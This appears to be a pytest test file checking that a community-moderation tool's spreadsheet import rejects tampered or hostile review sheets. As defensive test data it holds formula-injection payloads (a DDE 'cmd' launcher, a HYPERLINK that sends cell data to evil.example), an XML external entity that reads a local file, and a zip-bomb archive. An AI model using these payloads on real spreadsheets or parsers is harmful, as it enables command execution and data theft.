"""A review sheet made by somebody clever, clumsy or malicious: refused in one line, with nothing of it repeated."""

import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from coc_analytics.community import Community
from coc_analytics.terms import Refusal
from tests.intake_vault import said_in
from tests.review_vault import COMMITTEE, MEMBERS, SHOUTED, SLIDES, ReviewVault, Sheet, text_of

CANARY = "zebra-canary"
ROWS = (f"K-1,,2026-07-02,Ash Moor,,,no,,{SHOUTED}", f"K-2,,2026-07-03,Ash Moor,,,no,,{SLIDES}")


@pytest.fixture
def vault(tmp_path: Path) -> ReviewVault:
    made = ReviewVault(tmp_path)
    made.put("committee.csv", COMMITTEE)
    made.put("members.csv", MEMBERS)
    return made.reports(*ROWS)


def refused(vault: ReviewVault, sheet: Sheet, rule: str, by: str = "Robin") -> Refusal:
    """Importing is refused by this rule, keeps no label, and repeats nothing of the sheet."""
    before = vault.labels()
    with pytest.raises(Refusal, match=rule) as caught:
        vault.take_in(sheet, by)
    said = said_in(caught.value)
    for word in (CANARY, "idiot", "slides"):
        assert word not in said
    assert caught.value.file == sheet.path.name
    assert vault.labels() == before
    return caught.value


def test_an_account_somebody_changed(vault: ReviewVault) -> None:
    sheet = vault.export().answer("idiot", "incident", "shaming")
    row = sheet.row_about("idiot")
    said = refused(vault, sheet.write(row, {"account": f"{SHOUTED} {CANARY}"}), "does not match its case")
    assert (said.line, said.column) == (row, "case")


def test_a_column_sorted_apart_from_the_others(vault: ReviewVault) -> None:
    sheet = vault.export().answer("idiot", "incident", "shaming")
    first, second = sheet.rows
    sheet.write(2, {"case": second["case"]}).write(3, {"case": first["case"]})
    refused(vault, sheet, "does not match its case")


def test_a_check_taken_from_another_row_or_made_up(vault: ReviewVault) -> None:
    sheet = vault.export().answer("idiot", "incident", "shaming")
    check = sheet.rows[1]["check"]
    refused(vault, sheet.write(2, {"check": check}), "does not match its case")
    refused(vault, sheet.write(2, {"check": CANARY}), "does not match its case")
    refused(vault, sheet.write(2, {"check": None}), "does not match its case")


def test_a_row_of_another_community(vault: ReviewVault, tmp_path: Path) -> None:
    other = ReviewVault(tmp_path / "other").reports(*ROWS)
    sheet = other.export().answer("idiot", "incident", "shaming")
    own = vault.export()
    own.path.write_bytes(sheet.path.read_bytes())
    refused(vault, own, "does not match its case")


@pytest.mark.parametrize(
    ("cells", "rule", "column"),
    [
        ({"kind": "incident", "behaviour 1": CANARY}, "not on its list", "behaviour"),
        ({"kind": CANARY}, "not on its list", "kind"),
        ({"kind": '=HYPERLINK("https://zebra-canary.example")'}, "not on its list", "kind"),
        ({"kind": 3, "behaviour 1": 17.5}, "not on its list", "kind"),
        ({"kind": "incident", "behaviour 1": "shaming", "sure": True}, "not on its list", "sure"),
        ({"kind": "not_coded"}, "not on its list", "kind"),
        ({"behaviour 1": "shaming"}, "half coded", "kind"),
        ({"sure": "unsure"}, "half coded", "kind"),
        ({"kind": "incident"}, "no behaviour yet", "behaviour"),
        ({"kind": "appreciation", "behaviour 2": "shaming"}, "only an incident", "behaviour"),
        ({"kind": "incident", "behaviour 1": "none", "behaviour 2": "shaming"}, "stands beside", "behaviour"),
    ],
)
def test_an_answer_that_cannot_be(
    vault: ReviewVault, cells: dict[str, object], rule: str, column: str
) -> None:
    sheet = vault.export()
    sheet.answer("slides", "incident", "shaming")  # a good row beside it is not taken in either
    said = refused(vault, sheet.write(sheet.row_about("idiot"), cells), rule)
    assert (said.line, said.column) == (sheet.row_about("idiot"), column)


def test_a_case_in_two_rows(vault: ReviewVault) -> None:
    sheet = vault.export().answer("idiot", "incident", "shaming")
    row = sheet.rows[sheet.row_about("idiot") - 2]
    refused(vault, sheet.write(4, {**row, "behaviour 1": "doxxing"}), "a case stands in two rows")


def test_blank_rows_notes_and_another_order_of_rows_are_no_attack(vault: ReviewVault) -> None:
    sheet = vault.export().answer("idiot", "An incident", "SHAMING", " Personal  attack ")
    first, second = sheet.rows
    sheet.write(2, second).write(3, dict.fromkeys(first)).write(7, first)
    sheet.page.cell(1, 30).value = "my notes"
    sheet.page.cell(2, 30).value = CANARY
    sheet.book.save(sheet.path)
    vault.take_in(sheet)
    assert [label.behaviours for label in vault.labels()] == [("personal_attack", "shaming")]
    assert CANARY not in (vault.path / "labels/labels.csv").read_text()


def test_a_sheet_for_another_taxonomy(vault: ReviewVault, tmp_path: Path) -> None:
    sheet = vault.export().answer("idiot", "incident", "shaming")
    sheet.book["lists"]["D2"].value = "0" * 16
    sheet.book.save(sheet.path)
    refused(vault, sheet, "another version of the taxonomy")
    own = tmp_path / "own.toml"
    own.write_text(
        'id = "own"\ntitle = "Own"\n[[value]]\nid = "v"\ntitle = "V"\nstatement = "S"\n'
        '[[behaviour]]\nid = "b"\nvalue = "v"\ntitle = "=1+1"\nwording = "Being rude"\n'
    )
    other = ReviewVault(tmp_path / "other", Community(taxonomy=str(own))).reports(*ROWS)
    theirs = other.export()
    assert "'=1+1 (b)" in [cell.value for cell in theirs.book["lists"]["B"]]
    sheet.path.write_bytes(theirs.path.read_bytes())
    refused(vault, sheet, "another version of the taxonomy")


def test_a_recused_member_cannot_code_their_case_with_somebody_elses_sheet(vault: ReviewVault) -> None:
    vault.reports("K-7,,2026-07-04,Ash Moor,Sasha Dell,,no,,He pushed me hard in the hallway after the call was over.",
                  name="reports/s.csv")  # fmt: skip
    sheet = vault.export("Robin Vale").answer("pushed", "incident", "violence_or_threat")
    refused(vault, sheet, "not for you to code", by="Sasha Dell")
    vault.take_in(sheet, "Robin Vale")
    assert len(vault.labels()) == 1


@pytest.mark.parametrize("name", ["", " ", "x", "y" * 500])
def test_nobody_reviews_without_a_name(vault: ReviewVault, name: str) -> None:
    sheet = vault.export()
    refused(vault, sheet, "needs the name", by=name)


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04", b"case,kind\nx,y\n", b"\x00" * 4096])
def test_a_file_that_is_no_workbook(vault: ReviewVault, content: bytes) -> None:
    sheet = vault.export()
    sheet.path.write_bytes(content)
    refused(vault, sheet, "no review sheet")


def test_a_workbook_that_is_no_sheet_of_ours(vault: ReviewVault) -> None:
    sheet = vault.export()
    book = Workbook()
    book.active.append([CANARY])
    book.save(sheet.path)
    refused(vault, sheet, "no review sheet")
    sheet.page.delete_cols(1)
    sheet.book.save(sheet.path)
    refused(vault, sheet, "missing or doubled")


def test_a_workbook_that_unpacks_to_more_than_a_sheet_can_hold(vault: ReviewVault) -> None:
    sheet = vault.export()
    with zipfile.ZipFile(sheet.path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/zeros.bin", bytes(100 * 1024 * 1024))
    refused(vault, sheet, "too large")


def test_a_workbook_that_asks_for_a_file_of_the_machine(vault: ReviewVault, tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text(CANARY)
    sheet = vault.export()
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{tmp_path / "secret.txt"}">]>'
    packed = io.BytesIO()
    with zipfile.ZipFile(sheet.path) as old, zipfile.ZipFile(packed, "w") as new:
        for name in old.namelist():
            content = old.read(name).decode()
            if name == "xl/worksheets/sheet1.xml":
                content = entity + content.replace("first look", "&e;")
            new.writestr(name, content)
    sheet.path.write_bytes(packed.getvalue())
    refused(vault, sheet, "no review sheet")


NASTY = {
    "a formula": "=cmd|' /C calc'!A0",
    "a sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a plus": "+1+1",
    "a minus": "-2+3+cmd|' /C calc'!A0",
    "a link": '=HYPERLINK("https://evil.example/?"&A1)',
    "an escape of a spreadsheet": "_x003D_1+1",
    "after white space": " \t\r =1+1",
    "an error": "#REF!",
    "control characters": "he shouted\x00 at\x07 me \x1b[31mred\x1b[0m \x85 \x9f and called me an idiot in the call",
    "a direction": "he \u202eshouted\u202c at \u2066me\u2069 in the call and called me an idiot",
    "right to left": "צעק עליי בפגישה מול כולם ולא הרגשתי בטוחה שם",
    "nothing": "",
    "noncharacters": "he shouted \ufffe\uffff at me \U0001fffe in the call and called me an idiot",
    "markup": "</t></si><si><t>=1+1</t></si> & <b>he shouted</b> ]]>",
    "half a pair": "he shouted at me 😀 in the call \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "a megabyte": "he shouted at me in the call and called me an idiot again and again. " * 15_000,
}


@pytest.mark.parametrize("text", NASTY.values(), ids=NASTY.keys())
def test_no_account_becomes_a_formula_or_breaks_a_sheet(tmp_path: Path, text: str) -> None:
    vault = ReviewVault(tmp_path)
    quoted = text.replace('"', '""').replace("\x00", "")
    vault.reports(f'K-1,,2026-07-02,,,,no,,"{quoted}"')
    sheet = vault.export()
    (row,) = sheet.rows
    for cells in sheet.page.iter_rows(min_row=2):
        for cell in cells:
            assert cell.data_type in ("s", "n"), "text or empty"
            assert not str(cell.value or "").startswith(("=", "+", "-", "@", "\t"))
            assert cell.quotePrefix
            assert cell.number_format == "@"
    assert "<f>" not in text_of(sheet.path)
    assert not set(row["account"]) & {
        chr(code) for code in (*range(10), *range(11, 32), 0x202E, 0x2066, 0xFFFE)
    }
    assert len(row["account"]) < 32_767
    vault.take_in(sheet.write(2, {"kind": "out_of_scope"}))
    assert len(vault.labels()) == 1
    reopened = load_workbook(sheet.path)
    assert reopened["review"]["C2"].data_type == "s"


@pytest.mark.parametrize(
    ("old", "new", "rule"),
    [
        ("shaming", "SHAMING!", "a label is damaged"),
        ("incident", "not_coded", "a label is damaged"),
        ("2026Q3", CANARY, "a label is damaged"),
        (",sure,", ",maybe,", "a label is damaged"),
        ("sureness", CANARY, "required column is missing"),
        ("\n", ",more\n", "a label is damaged|does not know"),
    ],
)
def test_damaged_labels_stop_everything_and_are_not_repeated(
    vault: ReviewVault, old: str, new: str, rule: str
) -> None:
    vault.take_in(vault.export().answer("idiot", "incident", "shaming"))
    path = vault.path / "labels/labels.csv"
    path.write_text(path.read_text().replace(old, new))
    for door in (vault.classify, lambda: vault.export(name="x.xlsx")):
        with pytest.raises(Refusal, match=rule) as caught:
            door()
        assert caught.value.file == "labels/labels.csv"
        assert CANARY not in said_in(caught.value)


def test_a_label_of_a_behaviour_the_taxonomy_lost_waits_for_review_again(vault: ReviewVault) -> None:
    vault.take_in(vault.export().answer("idiot", "incident", "shaming"))
    path = vault.path / "labels/labels.csv"
    path.write_text(path.read_text().replace("shaming", "no_longer_there"))
    vault.classify()
    assert "idiot" in text_of(vault.export(name="again.xlsx").path)
